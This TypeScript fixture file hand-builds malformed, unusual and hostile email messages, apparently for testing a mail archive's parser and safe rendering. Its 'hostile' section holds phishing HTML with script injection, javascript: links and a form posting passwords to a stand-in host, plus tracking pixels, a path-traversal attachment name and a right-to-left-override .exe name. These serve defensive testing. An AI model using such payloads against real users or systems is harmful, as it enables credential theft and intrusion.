/**
 * Mail as it should not be and is: broken, hostile, strange. Written by hand, byte for byte, because a composer cannot
 * make such mistakes. Harmless: every address that something could be fetched from ends in .invalid (RFC 6761).
 */
import { encodeText } from './charset.ts'
import { readTime } from './compose.ts'
import type { Delivered } from './mailbox.ts'

export function oddities(): Delivered[] {
  return [...broken, ...strange, ...hostile].map(([box, at, flags, content]) => {
    const { seconds, zone } = readTime(at)
    return { box, flags, seconds, zone, bytes: typeof content === 'string' ? Buffer.from(content, 'utf8') : content }
  })
}

type Odd = [box: string, at: string, flags: string[], content: string | Buffer]

const SEEN = ['\\Seen']
const crlf = (...lines: string[]) => lines.join('\r\n')
const raw = (...pieces: (string | Buffer)[]) => Buffer.concat(pieces.map(piece => (typeof piece === 'string' ? Buffer.from(piece, 'latin1') : piece)))

/** Against RFC 5322 or MIME, as received from machines and careless programs. */
const broken: Odd[] = [
  // No Date, no Message-ID, no To
  [
    'INBOX',
    '2024-11-05 03:12 +0100',
    SEEN,
    crlf('From: fax@urzadzenie.invalid', 'Subject: FAX 0042', '', 'Odebrano 1 strone. Nadawca nieznany.', ''),
  ],
  // Headers and no body, not even the empty line
  ['INBOX', '2024-12-02 09:00 +0100', SEEN, 'From: skaner@urzadzenie.invalid\r\nSubject: (pusty skan)\r\nDate: Mon, 2 Dec 2024 09:00:00 +0100'],
  // No headers at all
  ['INBOX', '2025-01-20 12:00 +0100', SEEN, crlf('', 'Alarm: drzwi magazynu otwarte 11:59:41', '')],
  // 8-bit headers in ISO-8859-2, without an encoded word
  [
    'INBOX',
    '2023-11-06 08:15 +0100',
    SEEN,
    raw(
      encodeText(
        crlf(
          'From: Księgarnia Przykład <sklep@ksiegarnia.example>',
          'To: zofia@latarnia.example',
          'Subject: Zamówienie gotowe do odbioru - łącznie 3 książki',
        ),
        'iso-8859-2',
      ),
      crlf('', 'Date: Mon, 6 Nov 2023 08:14:50 +0100', 'Content-Type: text/plain; charset=iso-8859-2', 'Content-Transfer-Encoding: 8bit', '', ''),
      encodeText('Książki czekają do piątku. Prosimy zabrać własną torbę.\r\n', 'iso-8859-2'),
    ),
  ],
  // Lines that end in a bare LF
  [
    'Serwer',
    '2025-09-28 06:00 +0200',
    SEEN,
    'From: root@nas.latarnia.example\nTo: zofia@latarnia.example\nSubject: disk usage report (bare LF)\nDate: Sun, 28 Sep 2025 04:00:00 +0000\nMessage-ID: <df-1@nas.latarnia.example>\n\n/volume/projects 71%\n/volume/mail 12%\n',
  ],
  // One line of 30,000 characters; RFC 5322 2.1.1 permits 998
  [
    'Serwer',
    '2025-10-02 06:00 +0200',
    SEEN,
    crlf(
      'From: root@nas.latarnia.example',
      'To: zofia@latarnia.example',
      'Subject: one very long line',
      'Date: Thu, 2 Oct 2025 04:00:00 +0000',
      'Message-ID: <long-1@nas.latarnia.example>',
      '',
      Array.from({ length: 3000 }, (_, at) => `file${String(at).padStart(5, '0')}`).join(' '),
      '',
    ),
  ],
  // A boundary that never ends, and the last part without a line end
  [
    'INBOX',
    '2024-05-14 18:40 +0200',
    SEEN,
    crlf(
      'From: "Hurtownia Kabli" <oferty@kable.example>',
      'To: zofia@latarnia.example',
      'Subject: Oferta: przewody w tekstylnym oplocie',
      'Date: Tue, 14 May 2024 18:39:12 +0200',
      'Message-ID: <oferta-77@kable.example>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="kable"',
      '',
      '--kable',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      'Dzień dobry, w załączeniu cennik przewodów. Przewód czerwony jest znowu dostępny.',
      '--kable',
      'Content-Type: text/csv; name="cennik.csv"',
      'Content-Disposition: attachment; filename="cennik.csv"',
      '',
      'kolor;cena',
      'czerwony;4,20',
      'złoty;4,90',
    ),
  ],
  // Base64 with a letter too few, a stray sign and no padding
  [
    'INBOX',
    '2024-08-21 10:05 +0200',
    SEEN,
    crlf(
      'From: skaner@urzadzenie.invalid',
      'To: biuro@latarnia.example',
      'Subject: Skan 2024-08-21',
      'Date: Wed, 21 Aug 2024 10:04:58 +0200',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=skan',
      '',
      '--skan',
      'Content-Type: text/plain',
      '',
      'Skan w zalaczniku.',
      '--skan',
      'Content-Type: application/pdf; name=skan.pdf',
      'Content-Transfer-Encoding: base64',
      'Content-Disposition: attachment; filename=skan.pdf',
      '',
      'JVBERi0xLjQKMSAwIG9iago8PCAvVHlwZSAvQ2F0YWxvZyA+Pg!plbmRvYmoKdHJha',
      'WxlciA8PCAvU2l6ZSAyID4+CiUlRU9GC',
      '--skan--',
      '',
    ),
  ],
  // A charset nobody knows, a transfer encoding nobody knows
  [
    'INBOX',
    '2023-12-12 12:12 +0100',
    SEEN,
    crlf(
      'From: Automat <automat@urzadzenie.invalid>',
      'To: zofia@latarnia.example',
      'Subject: =?x-nieznany?B?U3RhbiBtYWdhenludQ==?=',
      'Date: Tue, 12 Dec 2023 12:12:00 +0100',
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset=x-nieznany',
      'Content-Transfer-Encoding: x-morse',
      '',
      'Lampy: 14. Oprawy: 9. Kable: dosyc.',
      '',
    ),
  ],
  // A date that was never a day, and an address that is none
  [
    'INBOX',
    '2024-02-29 07:00 +0100',
    SEEN,
    crlf(
      'From: "Kalendarz" <>',
      'To: undisclosed-recipients:;',
      'Subject: Przypomnienie',
      'Date: Fri, 31 Feb 2024 25:61:00 +9900',
      '',
      'Dzisiaj: nic.',
      '',
    ),
  ],
  // GB2312 said, GB18030 used, as many programs do; encoded words cut inside a character
  [
    '供应商/合同',
    '2023-10-08 10:30 +0200',
    SEEN,
    raw(
      crlf(
        'From: =?gb2312?B?1ty9qLn6?= <zhou@lanhu.example>',
        'To: zofia@latarnia.example',
        `Subject: =?gb2312?B?${encodeText('生产进度', 'gb18030').subarray(0, 5).toString('base64')}?=`,
        ` =?gb2312?B?${encodeText('生产进度', 'gb18030').subarray(5).toString('base64')}?=`,
        'Date: Sun, 8 Oct 2023 16:29:40 +0800',
        'Message-ID: <progress-1@lanhu.example>',
        'MIME-Version: 1.0',
        'Content-Type: text/plain; charset=gb2312',
        'Content-Transfer-Encoding: 8bit',
        '',
        '',
      ),
      encodeText('第一批射灯已经开始生产，镕化和测试都正常。照片下周发给您。\r\n', 'gb18030'),
    ),
  ],
  // Parts eleven levels deep with one line of text in the middle
  ['INBOX', '2024-09-30 22:10 +0200', SEEN, nested(11)],
  // A NUL in the text
  [
    'INBOX',
    '2025-03-03 03:03 +0100',
    SEEN,
    raw(
      crlf('From: licznik@urzadzenie.invalid', 'Subject: odczyt licznika', 'Date: Mon, 3 Mar 2025 03:03:00 +0100', '', 'kWh: '),
      Buffer.from([0, 0x34, 0x31, 0]),
      '\r\n',
    ),
  ],
]

/** Within the rules, and rarely seen. */
const strange: Odd[] = [
  // A letter passed on whole: message/rfc822 inside a message
  [
    'INBOX',
    '2024-03-27 09:20 +0100',
    ['\\Seen', '\\Flagged', '$Forwarded'],
    crlf(
      'From: Eleanor Finch <eleanor.finch@harbourmuseum.example>',
      'To: Zofia Marczak <zofia@latarnia.example>',
      'Subject: Fwd: A letter from a visitor',
      'Date: Wed, 27 Mar 2024 08:19:30 +0000',
      'Message-ID: <fwd-visitor@harbourmuseum.example>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=outer',
      '',
      '--outer',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Zofia, this came this morning. I pass it on whole, because it belongs to you. E.',
      '--outer',
      'Content-Type: message/rfc822',
      'Content-Disposition: attachment; filename="A letter from a visitor.eml"',
      '',
      'From: A. Visitor <visitor@example.org>',
      'To: museum@harbourmuseum.example',
      'Subject: A letter from a visitor',
      'Date: Tue, 26 Mar 2024 21:02:00 +0000',
      'Message-ID: <visitor-1@example.org>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=inner',
      '',
      '--inner',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'My great-grandfather wrote the letter about the parrot. We had only a bad copy at home. Yesterday I could read every word. Thank you, whoever made that light.',
      '--inner',
      'Content-Type: text/plain; name="family tree.txt"',
      'Content-Disposition: attachment; filename="family tree.txt"',
      '',
      'William (1880) - Agnes (1909) - Ruth (1938) - me',
      '--inner--',
      '--outer--',
      '',
    ),
  ],
  // A bounce: multipart/report
  [
    'INBOX',
    '2024-06-12 16:01 +0200',
    SEEN,
    crlf(
      'Return-Path: <>',
      'From: MAILER-DAEMON@mail.latarnia.example (Mail Delivery System)',
      'To: zofia@latarnia.example',
      'Subject: Undelivered Mail Returned to Sender',
      'Date: Wed, 12 Jun 2024 16:01:10 +0200',
      'Message-ID: <bounce-1@mail.latarnia.example>',
      'Auto-Submitted: auto-replied',
      'MIME-Version: 1.0',
      'Content-Type: multipart/report; report-type=delivery-status; boundary="report"',
      '',
      '--report',
      'Content-Type: text/plain; charset=us-ascii',
      '',
      '<nobody@harbourmuseum.example>: user unknown',
      '--report',
      'Content-Type: message/delivery-status',
      '',
      'Reporting-MTA: dns; mail.latarnia.example',
      '',
      'Final-Recipient: rfc822; nobody@harbourmuseum.example',
      'Action: failed',
      'Status: 5.1.1',
      '--report',
      'Content-Type: text/rfc822-headers',
      '',
      'From: zofia@latarnia.example',
      'To: nobody@harbourmuseum.example',
      'Subject: Light log, week 12',
      '--report--',
      '',
    ),
  ],
  // Folded, commented, grouped, quoted: everything RFC 5322 lets an address be
  [
    'INBOX',
    '2024-07-19 12:00 +0200',
    SEEN,
    crlf(
      'From: "Finch, Eleanor (Exhibitions)" <eleanor.finch@harbourmuseum.example> (on holiday)',
      'To: Light People: zofia@latarnia.example, "Tomasz ""Tomek"" Zuraw" <tomasz@latarnia.example>;',
      'Subject: Gallery hours',
      ' in',
      '\tAugust',
      'Date: Fri, 19 Jul 2024 11:59:30 +0100 (BST)',
      'Message-ID:',
      ' <hours-aug@harbourmuseum.example>',
      '',
      'Gallery 2 opens at ten in August, so the lamps may sleep an hour longer.',
      '',
    ),
  ],
  // Text that flows (RFC 3676), with a date in the old form of RFC 822
  [
    'Archive/2019',
    '2019-02-11 09:30 -0500',
    SEEN,
    crlf(
      'From: Sam Sample <sam@example.net>',
      'To: zofia@latarnia.example',
      'Subject: Old program, old date',
      'Date: Mon, 11 Feb 19 09:29:00 EST',
      'Message-ID: <flowed-1@example.net>',
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset=us-ascii; format=flowed',
      '',
      'This paragraph is one line for those who know how to read it, ',
      'and two for those who do not.',
      '',
      '> quoted once',
      '>> quoted twice',
      '',
    ),
  ],
  // Right-to-left text, emoji, combining marks
  [
    'INBOX',
    '2025-04-01 10:10 +0200',
    SEEN,
    crlf(
      'From: =?utf-8?B?2KPZhdmK2YbYqQ==?= <amina@example.org>',
      'To: zofia@latarnia.example',
      'Subject: =?utf-8?B?8J+SoSDZhdi12KjYp9itINmE2YTZhdmD2KrYqNip?=',
      'Date: Tue, 1 Apr 2025 10:09:00 +0200',
      'Message-ID: <rtl-1@example.org>',
      'MIME-Version: 1.0',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      'مرحبا، هل لديكم مصباح قراءة للمكتبة؟ شكرا 💡',
      'P.S. Der Name ist Zoe\u0308, nicht Zoë.',
      '',
    ),
  ],
]

/** What an archive must keep and must never let do anything. */
const hostile: Odd[] = [
  [
    'Junk',
    '2025-02-11 02:22 +0100',
    [],
    html('Bank <alert@bank.invalid>', 'Your account will be closed!', 'Tue, 11 Feb 2025 01:22:00 +0000', 'junk-1', [
      '<html><head><meta http-equiv="refresh" content="0;url=https://bank.invalid/login"><base href="https://bank.invalid/"></head>',
      '<body onload="document.title=\'owned\'">',
      '<script>document.body.innerHTML = "script ran"</script>',
      '<p>Dear customer, <b>confirm your password</b> within 24 hours.</p>',
      '<form action="https://bank.invalid/steal" method="post"><input name="password" type="password"><button>Confirm</button></form>',
      '<a href="javascript:alert(1)">Open my account</a> <a href="https://bank.invalid/">https://mybank.example/</a>',
      '<iframe src="https://bank.invalid/frame"></iframe><object data="https://bank.invalid/o.swf"></object>',
      '<svg onload="alert(2)"><script>alert(3)</script></svg>',
      '</body></html>',
    ]),
  ],
  [
    'Junk',
    '2025-05-30 13:01 +0200',
    [],
    html('Lottery <winner@lottery.invalid>', 'You have won a lighthouse', 'Fri, 30 May 2025 11:01:00 +0000', 'junk-2', [
      '<html><head><link rel="stylesheet" href="https://lottery.invalid/s.css"><style>@import url(https://lottery.invalid/i.css);p{background:url(https://lottery.invalid/p.png)}</style></head>',
      '<body background="https://lottery.invalid/b.png">',
      '<p style="background-image:url(\'https://lottery.invalid/x.gif\')">Congratulations! A lighthouse, with keeper, is yours.</p>',
      '<img src="https://lottery.invalid/pixel?u=zofia" width="1" height="1"><img srcset="https://lottery.invalid/2x.png 2x" src="//lottery.invalid/1x.png">',
      '<video poster="https://lottery.invalid/v.png"><source src="https://lottery.invalid/v.mp4"></video><audio src="https://lottery.invalid/a.mp3" autoplay></audio>',
      '</body></html>',
    ]),
  ],
  [
    'Junk',
    '2025-08-08 08:08 +0200',
    ['\\Seen'],
    html('Prize Dept <prize@lottery.invalid>', 'Re: Re: Re: LED lamps 90% OFF!!!', 'Fri, 8 Aug 2025 06:08:00 +0000', 'junk-3', [
      '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99999;background:#fff">CHEAP LAMPS</div><p>Tanie lampy, tylko dziś, tylko u nas.</p>',
    ]),
  ],
  // An attachment whose name wants to leave its folder, and one that hides its ending with a right-to-left mark
  [
    'Junk',
    '2025-09-14 19:19 +0200',
    [],
    crlf(
      'From: invoice@sender.invalid',
      'To: zofia@latarnia.example',
      'Subject: Invoice attached, please pay',
      'Date: Sun, 14 Sep 2025 17:19:00 +0000',
      'Message-ID: <junk-4@sender.invalid>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=x',
      '',
      '--x',
      'Content-Type: text/plain',
      '',
      'See attachment.',
      '--x',
      'Content-Type: application/octet-stream',
      'Content-Disposition: attachment; filename="../../../../tmp/invoice.txt"',
      '',
      'this is a harmless text',
      '--x',
      'Content-Type: application/octet-stream',
      "Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
      'Content-Transfer-Encoding: base64',
      '',
      'dGhpcyBpcyBhIGhhcm1sZXNzIHRleHQ=',
      '--x--',
      '',
    ),
  ],
]

function html(from: string, subject: string, date: string, id: string, lines: string[]): string {
  return crlf(
    `From: ${from}`,
    'To: zofia@latarnia.example',
    `Subject: ${subject}`,
    `Date: ${date}`,
    `Message-ID: <${id}@sender.invalid>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    ...lines,
    '',
  )
}

function nested(depth: number): string {
  const opening = Array.from({ length: depth }, (_, at) => [`Content-Type: multipart/mixed; boundary="b${at}"`, '', `--b${at}`]).flat()
  const closing = Array.from({ length: depth }, (_, at) => `--b${depth - 1 - at}--`)
  return crlf(
    'From: Program pocztowy <robot@example.org>',
    'To: zofia@latarnia.example',
    'Subject: Matrioszka',
    'Date: Mon, 30 Sep 2024 22:09:00 +0200',
    'Message-ID: <matrioszka@example.org>',
    'MIME-Version: 1.0',
    ...opening,
    'Content-Type: text/plain; charset=utf-8',
    '',
    'W samym środku jest mała lalka.',
    ...closing,
    '',
  )
}
